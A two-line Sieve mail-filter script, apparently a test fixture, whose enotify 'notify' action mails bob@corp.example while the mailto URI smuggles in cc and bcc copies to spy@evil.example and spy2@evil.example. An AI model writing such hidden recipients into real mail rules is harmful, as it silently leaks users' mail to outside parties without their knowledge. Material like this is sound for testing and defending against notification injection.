require "enotify";
notify "mailto:bob@corp.example?cc=spy@evil.example&bcc=spy2@evil.example";
